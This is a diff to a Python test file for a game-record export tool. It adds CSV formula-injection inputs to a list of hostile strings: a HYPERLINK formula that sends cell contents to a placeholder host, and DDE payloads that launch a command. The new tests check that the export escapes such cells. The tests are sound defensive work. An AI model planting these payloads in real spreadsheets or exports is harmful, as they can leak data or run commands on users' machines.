@@ -418,6 +418,12 @@ HOSTILE = [
     "bad byte \udcff",
     "x" * 5000 + ' [Result "1-0"]',
     "",
+    '=HYPERLINK("http://example.invalid/?leak="&A1, "click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
 ]
 
 HOSTILE_NAMES = ['quote"and\\backslash', "brackets]and[", 'forged"] [Result "1-0', "new\nline"]
@@ -450,6 +456,22 @@ def visible(name: str) -> str:
     return name.replace("\n", "\\x0a")
 
 
+def as_text_cell(text: str) -> str:
+    """A CSV cell as the export writes it: a formula-like start gets a ``'`` in front."""
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+
+def test_csv_cells_that_would_be_formulas_are_text() -> None:
+    out = io.StringIO()
+    records = [make_record("=cmd", "+x", detail="@SUM(A1:A9)", seed=-5, stderr_order="=1")]
+    write_csv(records, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert rows[0]["order"] == "'=cmd" and rows[0]["chaos"] == "'+x"
+    assert rows[0]["detail"] == "'@SUM(A1:A9)"
+    assert rows[0]["seed"] == "-5"  # a number is a number, not a formula
+    assert rows[0]["winner"] == records[0].winner.value
+
+
 def test_hostile_text_changes_nothing_in_any_export(tmp_path: Path) -> None:
     db = make_store(tmp_path / "t.sqlite", hostile_records(), name='league "2" \\ [Result "1-0"]')
     with Store.open(db, readonly=True) as store:
@@ -480,8 +502,10 @@ def test_hostile_text_changes_nothing_in_any_export(tmp_path: Path) -> None:
     assert export_games(db, "csv", tmp_path / "g.csv") == len(HOSTILE)
     with (tmp_path / "g.csv").open(newline="", encoding="utf-8") as f:
         rows = list(csv.DictReader(f))
-    assert [row["detail"] for row in rows] == [r.detail for r in stored]
-    assert [row["order"] for row in rows] == [r.order for r in stored]
+    assert [row["detail"] for row in rows] == [as_text_cell(r.detail) for r in stored]
+    assert [row["order"] for row in rows] == [as_text_cell(r.order) for r in stored]
+    for row in rows:  # what a spreadsheet would take for a formula is marked as text
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
 
     assert export_games(db, "jsonl", tmp_path / "g.jsonl") == len(HOSTILE)
     lines = (tmp_path / "g.jsonl").read_text(encoding="utf-8").splitlines()
